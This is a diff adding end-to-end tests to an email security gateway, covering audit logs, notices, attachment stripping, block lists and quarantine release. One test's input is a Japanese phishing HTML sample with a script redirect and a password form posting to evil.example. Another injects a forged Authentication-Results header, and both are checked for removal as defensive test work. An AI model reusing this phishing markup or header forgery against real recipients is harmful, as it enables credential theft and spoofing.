@@ -35,7 +35,8 @@ import org.springframework.test.context.DynamicPropertySource;
 
 /**
  * The whole gateway in one Spring context with real peers on loopback: Python's smtplib and swaks send, a real
- * SMTP server receives downstream, and the REST API releases quarantined mail.
+ * SMTP server receives downstream, the REST API releases quarantined mail (recorded in the audit log), and
+ * notices go out through the gateway's own queue.
  */
 @AutoConfigureObservability(tracing = false)
 @SpringBootTest(classes = MamoriApplication.class, webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@@ -68,10 +69,14 @@ class GatewayEndToEndTest {
                   forced:
                     ATTACHMENT_EXECUTABLE: QUARANTINE
                     ATTACHMENT_NAME_RTLO: REJECT
+                    SENDER_BLOCKED: QUARANTINE
                 outbound:
                   thresholds: { tag: 6, quarantine: 15 }
                 tag:
                   subject_prefix: "[要注意]"
+                lists:
+                  block:
+                    senders: [blocked.example]
                 """.formatted(String.join(", ", domains));
     }
 
@@ -91,6 +96,8 @@ class GatewayEndToEndTest {
         r.add("mamori.delivery.retry-initial", () -> "1s");
         r.add("mamori.delivery.retry-max", () -> "2s");
         r.add("mamori.delivery.poll-interval", () -> "100ms");
+        r.add("mamori.notices.setup-url", () -> "https://mamori.example.co.jp/console/mfa");
+        r.add("mamori.notices.templates-dir", () -> DATA.resolve("notices").toString());
     }
 
     @AfterAll
@@ -104,6 +111,18 @@ class GatewayEndToEndTest {
 
     @Autowired
     MessageStore store;
+
+    @Autowired
+    io.mamori.console.audit.JdbcAuditTrail audit;
+
+    @Autowired
+    io.mamori.console.notice.Notices notices;
+
+    @Autowired
+    io.mamori.gateway.contact.JdbcSenderHistory senderHistory;
+
+    @Autowired
+    io.mamori.core.policy.PolicyHolder policyHolder;
 
     @LocalServerPort
     int httpPort;
@@ -387,6 +406,102 @@ class GatewayEndToEndTest {
         assertThat(health.body()).contains("\"UP\"");
     }
 
+    @Test
+    void restQueueActionsLandInTheAuditLogWhichIsSearchableAndExportableThroughTheRestApi() throws Exception {
+        io.mamori.core.store.Spool spool = store.openSpool();
+        try (java.io.OutputStream o = spool.output()) {
+            o.write("From: a@partner.example\r\nSubject: audit-1\r\n\r\nbody\r\n".getBytes(StandardCharsets.US_ASCII));
+        }
+        String id = store.commit(spool, new io.mamori.core.store.NewMessage(new io.mamori.core.message.Envelope(
+                io.mamori.core.message.Direction.INBOUND, "a@partner.example", List.of("audit-rcpt@example.co.jp"), "192.0.2.1",
+                "h", null, false, java.time.Instant.now()), "audit-1", new io.mamori.core.analysis.Verdict(
+                io.mamori.core.analysis.Action.QUARANTINE, 8, List.of()), MessageState.QUARANTINED), "").id();
+        HttpClient http = HttpClient.newHttpClient();
+        String token = Files.readString(DATA.resolve("api-token")).trim();
+
+        assertThat(post(http, token, "/api/v1/messages/" + id + "/delete").statusCode()).isEqualTo(200);
+        assertThat(post(http, token, "/api/v1/messages/" + id + "/release").statusCode()).as("deleted").isEqualTo(409);
+
+        HttpResponse<String> unauthorised = http.send(HttpRequest.newBuilder(api("/api/v1/audit")).build(),
+                HttpResponse.BodyHandlers.ofString());
+        assertThat(unauthorised.statusCode()).isEqualTo(401);
+        HttpResponse<String> found = get(http, token, "/api/v1/audit?object=" + id);
+        assertThat(found.statusCode()).as(found.body()).isEqualTo(200);
+        var json = new com.fasterxml.jackson.databind.ObjectMapper().readTree(found.body());
+        assertThat(json.get("entries")).hasSize(2);
+        var release = json.get("entries").get(0);
+        var delete = json.get("entries").get(1);
+        assertThat(delete.get("action").asText()).isEqualTo("queue.delete");
+        assertThat(delete.get("actor").asText()).isEqualTo("api-token");
+        assertThat(delete.get("sourceIp").asText()).isEqualTo("127.0.0.1");
+        assertThat(delete.get("before").asText()).isEqualTo("QUARANTINED");
+        assertThat(delete.get("after").asText()).isEqualTo("DELETED");
+        assertThat(delete.get("success").asBoolean()).isTrue();
+        assertThat(delete.get("hash").asText()).matches("[0-9a-f]{64}");
+        assertThat(release.get("action").asText()).isEqualTo("queue.release");
+        assertThat(release.get("success").asBoolean()).isFalse();
+        assertThat(release.get("after").asText()).isEqualTo("refused: not allowed in state DELETED");
+        assertThat(release.get("seq").asLong()).isGreaterThan(delete.get("seq").asLong());
+        assertThat(json.get("nextBefore").isNull()).isTrue();
+
+        HttpResponse<byte[]> csv = http.send(HttpRequest.newBuilder(api("/api/v1/audit.csv?action=queue.*&object=" + id))
+                .header("Authorization", "Bearer " + token).build(), HttpResponse.BodyHandlers.ofByteArray());
+        assertThat(csv.statusCode()).isEqualTo(200);
+        assertThat(csv.headers().firstValue("Content-Type").orElseThrow()).isEqualTo("text/csv;charset=UTF-8");
+        assertThat(csv.headers().firstValue("Content-Disposition").orElseThrow()).startsWith("attachment; filename=\"mamori-audit-");
+        assertThat(csv.body()).startsWith(0xEF, 0xBB, 0xBF);
+        String text = new String(csv.body(), StandardCharsets.UTF_8);
+        assertThat(text.lines().toList()).hasSize(3);
+        assertThat(text).contains(",api-token,127.0.0.1,queue.delete," + id + ",QUARANTINED,DELETED,true,");
+
+        HttpResponse<String> exports = get(http, token, "/api/v1/audit?action=audit.export&limit=1");
+        assertThat(exports.body()).contains("\"actor\":\"api-token\"").contains("object=" + id);
+        HttpResponse<String> bad = get(http, token, "/api/v1/audit?since=yesterday");
+        assertThat(bad.statusCode()).isEqualTo(400);
+        assertThat(bad.body()).contains("not a time: 'yesterday'");
+
+        assertThat(audit.verify().intact()).isTrue();
+    }
+
+    @Test
+    void aNoticeSentThroughTheGatewayArrivesDownstreamWithItsSubjectAndBodyDecoded() throws Exception {
+        String id = notices.accessChanged("sato@example.co.jp", "佐藤 花子", "経理部", null,
+                List.of("役割: 承認者 → 管理者"));
+
+        ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("(Mamori notice) id " + id), Duration.ofSeconds(30));
+
+        assertThat(got.mailFrom()).isEqualTo("mamori-noreply@example.co.jp");
+        assertThat(got.rcpts()).containsExactly("sato@example.co.jp");
+        org.apache.james.mime4j.dom.Message m = org.apache.james.mime4j.dom.Message.Builder.of(
+                new java.io.ByteArrayInputStream(got.data())).build();
+        assertThat(m.getSubject()).isEqualTo("【テスト株式会社】メールセキュリティ管理画面の権限が変更されました / "
+                + "[テスト株式会社] Your access to the mail security console has changed");
+        assertThat(m.getHeader().getField("Auto-Submitted").getBody()).isEqualTo("auto-generated");
+        String body;
+        try (java.io.InputStream in = ((org.apache.james.mime4j.dom.TextBody) m.getBody()).getInputStream()) {
+            body = new String(in.readAllBytes(), StandardCharsets.UTF_8);
+        }
+        assertThat(body).contains("経理部 佐藤 花子 様").contains("・役割: 承認者 → 管理者")
+                .contains("Dear 佐藤 花子 (経理部)").contains("https://mamori.example.co.jp/console/mfa");
+
+        String en = notices.mfaReminder("ito@example.co.jp", "Ken Ito", "Sales", "en");
+        ReceivedMessage reminder = awaitDownstream(m2 -> m2.dataAsString().contains("(Mamori notice) id " + en), Duration.ofSeconds(30));
+        org.apache.james.mime4j.dom.Message r = org.apache.james.mime4j.dom.Message.Builder.of(
+                new java.io.ByteArrayInputStream(reminder.data())).build();
+        assertThat(r.getSubject()).isEqualTo("[テスト株式会社] Please set up multi-factor authentication (MFA)");
+        waitFor(() -> store.find(en).filter(x -> x.state() == MessageState.DELIVERED).orElse(null));
+    }
+
+    private HttpResponse<String> post(HttpClient http, String token, String path) throws Exception {
+        return http.send(HttpRequest.newBuilder(api(path)).header("Authorization", "Bearer " + token)
+                .POST(HttpRequest.BodyPublishers.noBody()).build(), HttpResponse.BodyHandlers.ofString());
+    }
+
+    private HttpResponse<String> get(HttpClient http, String token, String path) throws Exception {
+        return http.send(HttpRequest.newBuilder(api(path)).header("Authorization", "Bearer " + token).build(),
+                HttpResponse.BodyHandlers.ofString());
+    }
+
     private String smtplibQuiet(String rcpt, byte[] data) {
         try {
             return smtplib(rcpt, data);
@@ -409,5 +524,254 @@ class GatewayEndToEndTest {
             Thread.sleep(100);
         }
         throw new AssertionError("condition not met within 20 s");
+    }
+
+    // ---- disarm, attachment strip, forged Authentication-Results ---------------------------------------------
+
+    /** Runs {@code body} with {@code extra} appended to the test policy, and puts the plain policy back after. */
+    private void withPolicy(String extra, java.util.function.Predicate<io.mamori.core.policy.Policy> applied,
+            ThrowingRunnable body) throws Exception {
+        try {
+            Files.writeString(POLICY, policy("example.co.jp") + extra, StandardCharsets.UTF_8);
+            waitFor(() -> applied.test(policyHolder.current()) ? "applied" : null);
+            body.run();
+        } finally {
+            Files.writeString(POLICY, policy("example.co.jp"), StandardCharsets.UTF_8);
+            waitFor(() -> policyHolder.current().disarm().equals(io.mamori.core.policy.Policy.Disarm.DEFAULT)
+                    && policyHolder.current().attachments().equals(io.mamori.core.policy.Policy.Attachments.DEFAULT)
+                    ? "restored" : null);
+        }
+    }
+
+    interface ThrowingRunnable {
+        void run() throws Exception;
+    }
+
+    private static io.mamori.core.message.ParsedMessage parsed(ReceivedMessage m) throws IOException {
+        io.mamori.core.message.ParsedMessage p = new io.mamori.core.message.MessageParser()
+                .parse(new java.io.ByteArrayInputStream(m.data()));
+        p.close();
+        return p;
+    }
+
+    @Test
+    void encryptedZipIsStrippedOnTheWayAndItsQuarantinedOriginalArrivesWhenReleased() throws Exception {
+        byte[] zip;
+        try (var in = GatewayEndToEndTest.class.getResourceAsStream("/files/zip4j/store_compression_made_with_v1.3.3.zip")) {
+            zip = in.readAllBytes();
+        }
+        String zipBase64 = java.util.Base64.getMimeEncoder().encodeToString(zip);
+        // message() sends the string's chars as bytes, so the UTF-8 text goes in as its bytes.
+        String text = new String("見積書を送ります strip-1".getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
+        String body = "--S1\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n" + text + "\r\n"
+                + "--S1\r\nContent-Type: application/zip; name=\"mitsumori.zip\"\r\n"
+                + "Content-Disposition: attachment; filename=\"mitsumori.zip\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+                + zipBase64 + "\r\n--S1--\r\n";
+        byte[] sent = message("strip-1", "quote", "Content-Type: multipart/mixed; boundary=\"S1\"\r\n", body);
+
+        withPolicy("attachments:\n  encrypted: strip\n",
+                p -> p.attachments().encrypted() == io.mamori.core.policy.Policy.Attachments.Handling.STRIP, () -> {
+                    assertThat(smtplib("sato@example.co.jp", sent)).isEqualTo("SENT");
+
+                    ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("strip-1@partner.example"),
+                            Duration.ofSeconds(30));
+                    String delivered = got.dataAsString();
+                    var verdict = Pattern.compile("X-Mamori-Verdict: TAG; [^\r\n]*findings=ENCRYPTED_ARCHIVE; stripped=1;"
+                            + " original=([0-9A-Z]{26})\r\n").matcher(delivered);
+                    assertThat(verdict.find()).as(delivered).isTrue();
+                    String originalId = verdict.group(1);
+                    assertThat(delivered).doesNotContain(zipBase64.substring(0, 60));
+                    var message = parsed(got);
+                    assertThat(message.attachments()).isEmpty();
+                    assertThat(message.parts()).extracting(io.mamori.core.message.MimePart::contentType)
+                            .containsExactly("text/plain", "text/plain");
+                    assertThat(message.parts().get(0).text()).contains("見積書を送ります strip-1");
+                    assertThat(message.parts().get(1).text())
+                            .contains("添付ファイル「mitsumori.zip」は安全のため削除されました")
+                            .contains("パスワード付き（暗号化された）ファイル")
+                            .contains("元のメールは隔離して保管されています（ID: " + originalId + "）")
+                            .contains("The attachment \"mitsumori.zip\" was removed");
+
+                    StoredMessage original = store.find(originalId).orElseThrow();
+                    assertThat(original.state()).isEqualTo(MessageState.QUARANTINED);
+                    assertThat(original.findingCodes()).isEqualTo("ENCRYPTED_ARCHIVE");
+                    String token = Files.readString(DATA.resolve("api-token")).trim();
+                    HttpResponse<String> released = HttpClient.newHttpClient().send(
+                            HttpRequest.newBuilder(api("/api/v1/messages/" + originalId + "/release"))
+                                    .header("Authorization", "Bearer " + token).POST(HttpRequest.BodyPublishers.noBody()).build(),
+                            HttpResponse.BodyHandlers.ofString());
+                    assertThat(released.statusCode()).as(released.body()).isEqualTo(200);
+
+                    ReceivedMessage releasedCopy = awaitDownstream(m -> m.dataAsString().contains("strip-1@partner.example"),
+                            Duration.ofSeconds(30));
+                    assertThat(releasedCopy.dataAsString()).contains("X-Mamori-Verdict: QUARANTINE;").contains("stripped-copy=")
+                            .contains(zipBase64.substring(0, 60));
+                    assertThat(parsed(releasedCopy).attachments()).extracting(io.mamori.core.message.MimePart::filename)
+                            .containsExactly("mitsumori.zip");
+                });
+    }
+
+    @Test
+    void japaneseHtmlPhishingIsDisarmedOnTheWay() throws Exception {
+        String html = "<html><head><script>location='http://evil.example/'</script></head><body onload=\"steal()\">"
+                + "<p>お客様のアカウントは停止されました。<a href=\"https://login.example-bank.co/verify\">こちら</a>から"
+                + "本人確認してください。</p><img src=\"http://track.example/p.gif\"><form action=\"https://evil.example/p\">"
+                + "<input type=password name=pw></form> disarm-1</body></html>\r\n";
+        String body = new String(html.getBytes("ISO-2022-JP"), StandardCharsets.ISO_8859_1);
+        byte[] sent = message("disarm-1", "=?ISO-2022-JP?B?GyRCPUVNVxsoQg==?=",
+                "Content-Type: text/html; charset=ISO-2022-JP\r\nContent-Transfer-Encoding: 7bit\r\n", body);
+
+        withPolicy("disarm:\n  enabled: true\n", p -> p.disarm().enabled(), () -> {
+            assertThat(smtplib("sato@example.co.jp", sent)).isEqualTo("SENT");
+
+            ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("disarm-1@partner.example"),
+                    Duration.ofSeconds(30));
+            assertThat(got.dataAsString()).containsPattern("X-Mamori-Verdict: [A-Z]+; [^\r\n]*; disarmed=1\r\n")
+                    .contains("Content-Type: text/html; charset=utf-8");
+            String disarmed = parsed(got).parts().get(0).text();
+            assertThat(disarmed).doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<form")
+                    .doesNotContainIgnoringCase("<input").doesNotContainIgnoringCase("onload")
+                    .doesNotContain("track.example").doesNotContainIgnoringCase("href=")
+                    .contains("お客様のアカウントは停止されました。こちら [hxxps://login[.]example-bank[.]co/verify]から本人確認してください。")
+                    .contains("このメールは安全のため無害化されました");
+        });
+    }
+
+    @Test
+    void forgedAuthenticationResultsClaimingThisGatewayAreRemovedAndOthersKept() throws Exception {
+        String forged = "Authentication-Results: mamori.test; spf=pass smtp.mailfrom=bank.example;\r\n"
+                + "\tdkim=pass header.d=bank.example; dmarc=pass header.from=bank.example\r\n";
+        String theirs = "Authentication-Results: mx.partner.example; spf=pass smtp.mailfrom=partner.example\r\n";
+        byte[] clean = plainJapanese("authres-1");
+        byte[] sent = (forged + theirs + new String(clean, StandardCharsets.ISO_8859_1)).getBytes(StandardCharsets.ISO_8859_1);
+
+        assertThat(smtplib("sato@example.co.jp", sent)).isEqualTo("SENT");
+
+        ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("authres-1"), Duration.ofSeconds(30));
+        String text = new String(got.data(), StandardCharsets.ISO_8859_1);
+        var added = Pattern.compile("Received: from [^\r\n]+\r\n\tby mamori\\.test \\(Mamori\\) with ESMTP id [0-9A-Z]{26}\r\n"
+                + "\tfor <[^>]+>; [^\r\n]+\r\n"
+                + "Authentication-Results: mamori\\.test; spf=none [^\r\n]+\r\n"
+                + "X-Mamori-Verdict: DELIVER; score=0\\.00; findings=none; forged-authres-removed=1\r\n").matcher(text);
+        assertThat(added.lookingAt()).as(text).isTrue();
+        assertThat(text.substring(added.end())).as("the sender's bytes without the forged field, byte for byte")
+                .isEqualTo(theirs + new String(clean, StandardCharsets.ISO_8859_1));
+    }
+
+    private HttpResponse<String> api(String method, String path, String json) throws Exception {
+        String token = Files.readString(DATA.resolve("api-token")).trim();
+        HttpRequest.Builder b = HttpRequest.newBuilder(api(path)).header("Authorization", "Bearer " + token);
+        b = json == null ? b.method(method, HttpRequest.BodyPublishers.noBody())
+                : b.header("Content-Type", "application/json").method(method, HttpRequest.BodyPublishers.ofString(json));
+        return HttpClient.newHttpClient().send(b.build(), HttpResponse.BodyHandlers.ofString());
+    }
+
+    private static byte[] fromBlockedSender(String marker, String fromAddress) {
+        return ("From: Offers <" + fromAddress + ">\r\nTo: sato@example.co.jp\r\nSubject: " + marker + "\r\n"
+                + "Message-ID: <" + marker + "@blocked.example>\r\nDate: Sat, 28 Nov 2026 10:00:00 +0900\r\n"
+                + "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n" + marker + "\r\n")
+                .getBytes(StandardCharsets.US_ASCII);
+    }
+
+    @Test
+    void aBlockedSendersMessageIsReleasedOnAnEmployeesRequestApprovedThroughTheRestApi() throws Exception {
+        com.fasterxml.jackson.databind.ObjectMapper json = new com.fasterxml.jackson.databind.ObjectMapper();
+        assertThat(smtplib("sato@example.co.jp", fromBlockedSender("request-1", "offers@news.blocked.example")))
+                .isEqualTo("SENT");
+        StoredMessage q = waitFor(() -> store.list(MessageState.QUARANTINED, 50).stream()
+                .filter(m -> m.subject().equals("request-1")).findFirst().orElse(null));
+        assertThat(q.findingCodes().split(",")).contains("SENDER_BLOCKED");
+
+        HttpResponse<String> listed = api("GET", "/api/v1/quarantine?state=QUARANTINED", null);
+        assertThat(listed.statusCode()).isEqualTo(200);
+        assertThat(json.readTree(listed.body())).anySatisfy(m -> {
+            assertThat(m.get("id").asText()).isEqualTo(q.id());
+            assertThat(m.get("reasons")).anySatisfy(r -> {
+                assertThat(r.get("code").asText()).isEqualTo("SENDER_BLOCKED");
+                assertThat(r.get("reasonJa").asText()).contains("受信拒否リスト");
+                assertThat(r.get("reasonEn").asText()).isEqualTo("The sender is on a block list");
+            });
+        });
+
+        HttpResponse<String> stranger = api("POST", "/api/v1/quarantine/" + q.id() + "/requests",
+                "{\"requester\": \"tanaka@example.co.jp\", \"comment\": \"見せてください\"}");
+        assertThat(stranger.statusCode()).as(stranger.body()).isEqualTo(403);
+        assertThat(json.readTree(stranger.body()).get("message").asText()).contains("not a recipient");
+
+        HttpResponse<String> created = api("POST", "/api/v1/quarantine/" + q.id() + "/requests",
+                "{\"requester\": \"sato@example.co.jp\", \"comment\": \"取引先からの案内です\"}");
+        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
+        long requestId = json.readTree(created.body()).get("id").asLong();
+
+        HttpResponse<String> pending = api("GET", "/api/v1/quarantine/requests?status=PENDING", null);
+        assertThat(json.readTree(pending.body())).anySatisfy(r -> {
+            assertThat(r.get("request").get("id").asLong()).isEqualTo(requestId);
+            assertThat(r.get("request").get("comment").asText()).isEqualTo("取引先からの案内です");
+            assertThat(r.get("message").get("id").asText()).isEqualTo(q.id());
+        });
+        Thread.sleep(300);
+        assertThat(UNCLAIMED).noneMatch(m -> m.dataAsString().contains("request-1"));
+
+        HttpResponse<String> approved = api("POST", "/api/v1/quarantine/requests/" + requestId + "/approve",
+                "{\"comment\": \"確認しました\"}");
+        assertThat(approved.statusCode()).as(approved.body()).isEqualTo(200);
+        assertThat(json.readTree(approved.body()).get("status").asText()).isEqualTo("APPROVED");
+
+        ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("request-1@blocked.example"), Duration.ofSeconds(30));
+        assertThat(got.rcpts()).containsExactly("sato@example.co.jp");
+        assertThat(got.dataAsString()).containsPattern("X-Mamori-Verdict: QUARANTINE; score=[0-9.]+; findings=[A-Z_,]*SENDER_BLOCKED");
+        assertThat(api("POST", "/api/v1/quarantine/requests/" + requestId + "/approve", null).statusCode())
+                .as("decided once").isEqualTo(409);
+
+        java.util.List<io.mamori.console.audit.AuditRecord> entries = audit.search(
+                new io.mamori.console.audit.AuditFilter("api-token", "quarantine.*", null, null, null), null, 500).entries();
+        assertThat(entries)
+                .anySatisfy(e -> assertThat(e).extracting("action", "object", "success", "sourceIp")
+                        .containsExactly("quarantine.request.create", q.id() + " requester=tanaka@example.co.jp", false, "127.0.0.1"))
+                .anySatisfy(e -> assertThat(e).extracting("action", "object", "success")
+                        .containsExactly("quarantine.request.create", q.id() + " requester=sato@example.co.jp", true))
+                .anySatisfy(e -> assertThat(e).extracting("action", "object", "success", "after")
+                        .containsExactly("quarantine.request.approve", "request #" + requestId, true,
+                                "message " + q.id() + " QUARANTINED -> QUEUED"))
+                .anySatisfy(e -> assertThat(e.action()).isEqualTo("quarantine.list"));
+    }
+
+    @Test
+    void aBlockEntryAddedThroughTheRestApiQuarantinesTheNextMessageAndBulkReleaseFreesIt() throws Exception {
+        com.fasterxml.jackson.databind.ObjectMapper json = new com.fasterxml.jackson.databind.ObjectMapper();
+        HttpResponse<String> added = api("POST", "/api/v1/lists/block",
+                "{\"value\": \"Campaign.example\", \"user\": \"kato@example.co.jp\", \"comment\": \"asked by Kato\"}");
+        assertThat(added.statusCode()).as(added.body()).isEqualTo(201);
+        long entry = json.readTree(added.body()).get("id").asLong();
+        assertThat(api("POST", "/api/v1/lists/block", "{\"value\": \"campaign.example\", \"user\": \"kato@example.co.jp\"}")
+                .statusCode()).isEqualTo(409);
+        assertThat(api("POST", "/api/v1/lists/block", "{\"value\": \"jp\"}").statusCode()).isEqualTo(400);
+        try {
+            assertThat(smtplib("kato@example.co.jp", fromBlockedSender("per-user-1", "news@campaign.example"))).isEqualTo("SENT");
+            assertThat(smtplib("sato@example.co.jp", fromBlockedSender("per-user-2", "news@campaign.example"))).isEqualTo("SENT");
+
+            StoredMessage q = waitFor(() -> store.list(MessageState.QUARANTINED, 50).stream()
+                    .filter(m -> m.subject().equals("per-user-1")).findFirst().orElse(null));
+            assertThat(q.findingCodes().split(",")).contains("SENDER_BLOCKED");
+            awaitDownstream(m -> m.dataAsString().contains("per-user-2@blocked.example"), Duration.ofSeconds(30));
+
+            HttpResponse<String> released = api("POST", "/api/v1/quarantine/release", "{\"finding\": \"SENDER_BLOCKED\"}");
+            assertThat(released.statusCode()).as(released.body()).isEqualTo(200);
+            assertThat(json.readTree(released.body()).get("released")).extracting(com.fasterxml.jackson.databind.JsonNode::asText)
+                    .contains(q.id());
+            awaitDownstream(m -> m.dataAsString().contains("per-user-1@blocked.example"), Duration.ofSeconds(30));
+        } finally {
+            assertThat(api("DELETE", "/api/v1/lists/entries/" + entry, null).statusCode()).isEqualTo(200);
+        }
+        assertThat(api("DELETE", "/api/v1/lists/entries/" + entry, null).statusCode()).isEqualTo(404);
+    }
+
+    @Test
+    void deliveredInboundMailMakesItsSenderDomainAKnownContact() throws Exception {
+        assertThat(smtplib("sato@example.co.jp", plainJapanese("contact-1"))).isEqualTo("SENT");
+        awaitDownstream(m -> m.dataAsString().contains("contact-1"), Duration.ofSeconds(30));
+        assertThat(senderHistory.lastContact("partner.example")).hasValueSatisfying(c ->
+                assertThat(c.count()).isPositive());
+        assertThat(senderHistory.lastContact("blocked.example")).as("quarantined mail makes nobody known").isEmpty();
     }
 }
